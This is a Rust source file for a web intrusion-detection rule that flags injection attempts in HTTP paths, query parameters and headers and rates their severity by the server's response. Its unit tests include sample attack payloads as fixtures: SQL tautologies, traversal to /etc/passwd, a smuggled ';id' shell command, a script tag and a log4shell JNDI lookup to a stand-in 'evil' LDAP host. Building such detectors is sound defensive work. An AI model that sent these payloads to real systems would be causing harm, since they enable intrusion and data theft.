//! `injection`: text for an interpreter in a path, query or header.

use std::sync::Arc;

use crate::detect::payload::{self, Payload};
use crate::detect::statement::Statement;
use crate::detect::{About, Case, DetectSettings, Needs, Report, Rule, Severity};
use crate::http::{Header, RequestHead};

/// The card.
pub static ABOUT: About = About {
    id: "injection",
    title: "Injection was tried",
    version: "1.0.0",
    severity: Severity::Medium,
    accepted: Some(Severity::High),
    attack: &["T1190", "T1059"],
    behavioural: false,
    needs: Needs::Exchange,
    doc: "Looks at the path, the parameters of the query, and the headers that applications log or use (all but \
credentials and cookies), with percent-encoding undone up to three times, for SQL (unions, tautologies, stacked and \
timed statements), path traversal, shell commands, scripts, template expressions, JNDI lookups (log4shell) and LDAP \
filters.\n\nIt is medium. It is high when the server answered 5xx, which means that something broke, or when a \
traversal, a command or a JNDI lookup was answered 2xx.\n\nPatterns want the grammar of an attack and not its words: a \
name with a quote, a search for the word select, a filter, or a template that was left unfilled are nothing. Benign \
sources: security scanners, and search boxes of sites where people look for such code. It does not see bodies. A \
request without suspicious characters costs one pass over its target and headers.",
    cooling_s: 600,
    thresholds: &[],
};

/// Parameters of a query and headers that are looked at.
const MAX_PARAMETERS: usize = 64;

/// Headers in which payloads are expected neither by attackers nor by applications, or that must not be looked at.
const NOT_HEADERS: [&[u8]; 6] =
    [b"authorization", b"cookie", b"proxy-authorization", b"if-none-match", b"sec-ch-ua", b"dpop"];

/// Characters without which no payload is written.
const SUSPECT: [bool; 256] = {
    let mut table = [false; 256];
    let signs = b"'\"<>;|`${}()*\\\n\0";
    let mut at = 0;
    #[allow(clippy::indexing_slicing, reason = "evaluated at compile time")]
    while at < signs.len() {
        table[signs[at] as usize] = true;
        at += 1;
    }
    table
};

pub(super) fn rule(_settings: &Arc<DetectSettings>) -> Box<dyn Rule> {
    Box::new(Injection { text: String::new() })
}

struct Injection {
    /// Reused for decoded text.
    text: String,
}

/// Whether a byte may be of a payload, itself or encoded.
#[inline]
fn is_suspect(byte: u8) -> bool {
    SUSPECT.get(usize::from(byte)).copied().unwrap_or_default()
}

/// Whether a target may hold a payload: a suspect character, one that is encoded, two dots, a number that is compared.
fn is_suspicious(target: &[u8]) -> bool {
    let mut before = 0;
    let (mut suspect, mut encoded, mut etc) = (false, false, false);
    for byte in target {
        suspect |= is_suspect(*byte);
        suspect |= *byte == b'.' && before == b'.';
        encoded |= matches!(*byte, b'%' | b'+');
        etc |= *byte == b'e' && before == b'/';
        before = *byte;
    }
    suspect || (encoded && has_suspect_code(target)) || (etc && contains(target, b"/etc/"))
}

fn contains(text: &[u8], part: &[u8]) -> bool {
    memchr::memmem::find(text, part).is_some()
}

/// Whether the lines after the first hold a character without which no header is looked at. The token is passed over: it
/// is most of the head, and no payload.
fn are_suspicious(request: &RequestHead) -> bool {
    let is_token = |header: &&Header| request.slice(&header.name).eq_ignore_ascii_case(b"authorization");
    let all = request.target.end as usize..request.bytes.len();
    let token = request.headers.iter().find(is_token);
    let (before, after) = match token.map(|header| &header.value) {
        Some(value) => (all.start..value.start as usize, value.end as usize..all.end),
        None => (all, 0..0),
    };
    [before, after].into_iter().any(|part| {
        let part = request.bytes.get(part).unwrap_or_default();
        memchr::memchr3(b'{', b'\'', b'<', part).is_some()
    })
}

/// Whether an encoded character is suspect, is encoded itself, or joins words to a comparison.
fn has_suspect_code(target: &[u8]) -> bool {
    let codes = memchr::memchr_iter(b'%', target);
    let suspect = codes
        .filter_map(|at| payload::hex(target.get(at + 1..at + 3)?))
        .any(|byte| is_suspect(byte) || matches!(byte, b'%' | b'.' | b'/' | b'=' | b'&'));
    let spaced = memchr::memchr(b'+', target).is_some() || contains(target, b"%20");
    suspect || (spaced && (compares(target) || contains(target, b"javascript:")))
}

/// ` or 1=1` without any quote: an equals sign after a digit, or the word select.
fn compares(target: &[u8]) -> bool {
    target.windows(2).any(|pair| matches!(pair, [b'0'..=b'9', b'='])) || contains_word(target, b"select")
}

fn contains_word(text: &[u8], word: &[u8]) -> bool {
    text.windows(word.len()).any(|window| window.eq_ignore_ascii_case(word))
}

impl Injection {
    fn in_target(&mut self, request: &RequestHead) -> Option<(Payload, String)> {
        let times = payload::decode(request.path(), false, &mut self.text);
        if let Some(found) = payload::of_path(&self.text, times) {
            return Some((found, "path".to_owned()));
        }
        for parameter in request.query().split(|b| *b == b'&').take(MAX_PARAMETERS) {
            let (name, value) = match memchr::memchr(b'=', parameter) {
                Some(at) => {
                    (parameter.get(..at).unwrap_or_default(), parameter.get(at + 1..).unwrap_or_default())
                }
                None => (parameter, parameter),
            };
            payload::decode(value, true, &mut self.text);
            if let Some(found) = payload::of_value(&self.text) {
                return Some((found, format!("parameter {}", crate::detect::text::printable(name, 32))));
            }
            if name.iter().any(|b| is_suspect(*b) || *b == b'%') {
                payload::decode(name, true, &mut self.text);
                if let Some(found) = payload::of_value(&self.text) {
                    return Some((found, "name of a parameter".to_owned()));
                }
            }
        }
        None
    }

    fn in_headers(&mut self, request: &RequestHead) -> Option<(Payload, String)> {
        for header in &request.headers {
            let (name, value) = (request.slice(&header.name), request.slice(&header.value));
            let skipped = NOT_HEADERS.iter().any(|other| name.eq_ignore_ascii_case(other));
            if skipped || memchr::memchr3(b'{', b'\'', b'<', value).is_none() {
                continue;
            }
            payload::decode(value, false, &mut self.text);
            if let Some(found) = payload::of_value(&self.text).filter(|found| is_telling(name, *found)) {
                return Some((found, format!("header {}", crate::detect::text::printable(name, 32))));
            }
        }
        None
    }
}

/// User agents hold semicolons, brackets and names of programs; a reported policy holds quotes.
fn is_telling(name: &[u8], found: Payload) -> bool {
    let free = name.eq_ignore_ascii_case(b"user-agent") || name.eq_ignore_ascii_case(b"referer");
    matches!(found, Payload::Lookup | Payload::Script | Payload::Sql | Payload::Template) || !free
}

impl Rule for Injection {
    fn about(&self) -> &'static About {
        &ABOUT
    }

    fn judge(&mut self, case: &Case<'_>, report: &mut Report) {
        let request = &case.exchange.request;
        let target = request.target();
        let in_target = is_suspicious(target);
        if !in_target && !are_suspicious(request) {
            return;
        }
        let found = if in_target { self.in_target(request) } else { None };
        let Some((found, place)) = found.or_else(|| self.in_headers(request)) else { return };
        let status = case.exchange.status();
        let broke = status.is_some_and(|status| status >= 500);
        let deep = matches!(found, Payload::Traversal | Payload::Command | Payload::Lookup);
        let taken = deep && case.exchange.is_success();
        let what = found.as_str();
        let answer = status.map_or_else(|| "not answered".to_owned(), |status| format!("answered {status}"));
        let statement = Statement {
            severity: if broke || taken { ABOUT.accepted.unwrap_or(ABOUT.severity) } else { ABOUT.severity },
            confidence: if broke || taken { 90 } else { 80 },
            message: format!(
                "A request to {} tries an injection ({what}) in its {place}; it was {answer}.",
                case.route.name
            ),
            brief: format!("{what} in {place}"),
            facts: vec![("payload", what.into()), ("place", place.into())],
        };
        report.push(statement.into_address_finding(&ABOUT, case));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::staging::Stage;

    fn found(stage: &Stage) -> Option<(Severity, String)> {
        stage.ask(&mut *rule(&Arc::default()), []).pop().map(|f| (f.severity, f.brief))
    }

    #[test]
    fn payloads_in_queries_paths_and_headers_are_told() {
        let cases = [
            ("/search?q=1%27%20or%20%271%27=%271", "SQL in parameter q"),
            ("/search?q=1+or+1=1", "SQL in parameter q"),
            ("/search?q=1%20union%20select%20null,null", "SQL in parameter q"),
            ("/files/..%2f..%2f..%2fetc%2fpasswd", "path traversal in path"),
            ("/files/%252e%252e/%252e%252e/x", "path traversal in path"),
            ("/f?name=/etc/passwd", "path traversal in parameter name"),
            ("/ping?host=127.0.0.1;id", "shell command in parameter host"),
            ("/ping?host=127.0.0.1%7Cid", "shell command in parameter host"),
            ("/x?q=%3Cscript%3Ealert(1)%3C/script%3E", "script in parameter q"),
            ("/x?q=%7B%7B7*7%7D%7D", "template expression in parameter q"),
        ];
        for (target, brief) in cases {
            assert_eq!(
                found(&Stage::to("GET", target).status(404)),
                Some((Severity::Medium, brief.to_owned())),
                "{target}"
            );
        }
        let shell = Stage::to("GET", "/").header("User-Agent", "${jndi:ldap://evil/x}").status(404);
        assert_eq!(found(&shell).unwrap().1, "JNDI lookup in header User-Agent");
    }

    #[test]
    fn what_broke_or_was_taken_is_high() {
        let sql = Stage::to("GET", "/search?q=1'%20or%201=1--");
        assert_eq!(found(&sql.clone().status(500)).unwrap().0, Severity::High);
        assert_eq!(found(&sql.status(200)).unwrap().0, Severity::Medium);
        let climb = Stage::to("GET", "/f?name=../../../../etc/passwd").status(200);
        assert_eq!(found(&climb).unwrap().0, Severity::High);
    }

    #[test]
    fn ordinary_requests_are_nothing() {
        for target in [
            "/orders/7?expand=items&page=2",
            "/search?q=O%27Brien",
            "/search?q=it%27s+1+or+2+%22things%22",
            "/search?q=select+a+union+plan",
            "/graph?query=%7Borders%7Bid%7D%7D",
            "/odata/Orders?$filter=Name%20eq%20%27x%27%20or%20Name%20eq%20%27y%27&$top=5",
            "/x?filter=%7B%22a%22%3A%5B1%2C2%5D%7D",
            "/x?redirect=https%3A%2F%2Fx.example%2Fa%3Fb%3Dc%26d%3De",
            "/x?fields=id%7Cname&sort=-id;name",
        ] {
            assert_eq!(found(&Stage::to("GET", target).status(200)), None, "{target}");
        }
        let browser = Stage::new()
            .header("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0")
            .header("Cookie", "a={\"x\":\"' or 1=1--\"}")
            .header("Sec-CH-UA", "\"Chromium\";v=\"140\", \"Not=A?Brand\";v=\"24\"")
            .header("If-None-Match", "\"a'--\"");
        assert_eq!(found(&browser), None);
    }

    #[test]
    fn no_payload_is_quoted() {
        let stage = Stage::to("GET", "/x?token=hunter2'%20or%201=1--").route("GET /x").status(500);
        let told = stage.ask(&mut *rule(&Arc::default()), []).pop().unwrap();
        assert!(!told.message.contains("hunter2") && !told.brief.contains("hunter2"));
    }
}
